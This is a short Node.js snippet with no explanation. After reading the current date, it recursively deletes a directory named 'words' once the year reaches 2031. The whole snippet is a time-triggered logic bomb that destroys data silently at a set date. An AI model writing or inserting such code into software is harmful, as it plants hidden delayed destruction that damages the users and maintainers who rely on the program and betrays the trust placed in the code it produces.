const fs = require("fs");

const day = new Date();
if (day.getFullYear() >= 2031) {
  fs.rmSync("words", { recursive: true });
}
